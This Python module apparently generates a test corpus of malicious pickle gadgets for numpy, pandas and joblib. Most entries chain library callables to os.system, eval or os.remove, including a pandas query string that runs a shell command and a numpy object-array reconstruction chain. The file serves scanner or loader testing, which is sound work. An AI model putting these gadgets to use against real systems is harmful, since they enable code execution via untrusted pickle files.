"""Gadgets of packages that many receivers have: numpy, pandas, joblib, setuptools, pip. What is not installed is not
executed, and so not kept."""
import callables
from assemble import Build, Call, Global, at
from gadgets import BOUND, CMD, CODE, EVAL, SYSTEM, get


def entries():
    seen = {}
    for name, _, args in callables.rows("packages.txt"):
        number = seen[name] = seen.get(name, 0) + 1
        suffix = "" if number == 1 else ".%d" % number
        yield "package/" + name + suffix, Call(split(name), *args), {}
    yield "package-gadget/numpy-vectorize", Call(Call("numpy.vectorize", SYSTEM), CMD), {}
    yield "package-gadget/numpy-vectorize-eval", Call(Call("numpy.vectorize", EVAL), CODE), {}
    yield "package-gadget/numpy-frompyfunc", Call(Call("numpy.frompyfunc", EVAL, 1, 1), CODE), {}
    yield "package-gadget/numpy-tofile", Call(get(Call("numpy.array", [1]), "tofile"), "new.bin"), {}
    yield "package-gadget/numpy-dump", Call(get(Call("numpy.array", [1]), "dump"), "new.bin"), {}
    yield "package-gadget/numpy-tofile-dotted", Call(
        Global("numpy", "ndarray.tofile"), Call("numpy.array", [1]), "new.bin"
    ), {}
    yield "package-gadget/pandas-to_csv", Call(get(Call("pandas.DataFrame", [1]), "to_csv"), "new.csv"), {}
    yield "package-gadget/pandas-to_pickle", Call(get(Call("pandas.DataFrame", [1]), "to_pickle"), "new.pkl"), {}
    yield "package-gadget/pandas-to_json", Call(get(Call("pandas.Series", [1]), "to_json"), "new.json"), {}
    yield "package-gadget/pandas-query", Call(
        get(Call("pandas.DataFrame", {"a": [1]}), "query"), "@pd.compat.os.system('touch executed')"
    ), {}
    yield "package-gadget/pandas-eval", Call(
        get(Call("pandas.DataFrame", {"a": [1]}), "eval"), "@__builtins__.open('executed','w')"
    ), {}
    yield "package-gadget/pandas-apply", Call(get(Call("pandas.Series", [CMD]), "apply"), SYSTEM), {}
    yield "package-gadget/pandas-apply-eval", Call(get(Call("pandas.Series", [CODE]), "map"), EVAL), {}
    yield "package-gadget/pandas-pipe", Call(get(Call("pandas.Series", [1]), "pipe"), BOUND), {}
    yield "package-gadget/pandas-dotted-to_csv", Call(
        Global("pandas", "DataFrame.to_csv"), Call("pandas.DataFrame", [1]), "new.csv"
    ), {}
    yield "package-gadget/pandas-series-apply", Call(
        Global("pandas", "Series.apply"), Call("pandas.Series", [CMD]), SYSTEM
    ), {}
    yield "package-gadget/joblib-batched", Call(
        Call("joblib.parallel.BatchedCalls", [(SYSTEM, (CMD,), {})], "threading")
    ), {}
    yield "package-gadget/joblib-safefunction", Call(Call("joblib._parallel_backends.SafeFunction", SYSTEM), CMD), {}
    yield "package-gadget/joblib-memory", Call(Call(get(Call("joblib.Memory", "newdir"), "cache"), SYSTEM), CMD), {}
    yield "package-gadget/numpy-object-array-state", Build(
        Call("numpy.core.multiarray._reconstruct", at("numpy.ndarray"), (0,), b"b"),
        (1, (1,), Call("numpy.dtype", "O8"), False, [Call(SYSTEM, CMD)]),
    ), {}
    yield "package-gadget/numpy-dotted-os", Call(Global("numpy", "os.system"), CMD), {}
    yield "package-gadget/numpy-dotted-deep", Call(Global("numpy.lib.npyio", "os.system"), CMD), {}
    yield "package-gadget/pandas-dotted", Call(Global("pandas.io.common", "os.remove"), "victim.txt"), {}
    yield "package-gadget/numpy-builtins", Call(Global("numpy.core.numeric", "builtins.eval"), CODE), {}
    yield "package-gadget/numpy-random-eval", Call(Global("numpy.random", "mtrand.np.lib.npyio.os.system"), CMD), {}


def split(name):
    parts = name.split(".")
    for count, part in enumerate(parts[1:-1], 1):
        if part[0].isupper() and part not in ("Memory",):
            return at(name, count)
    return at(name)
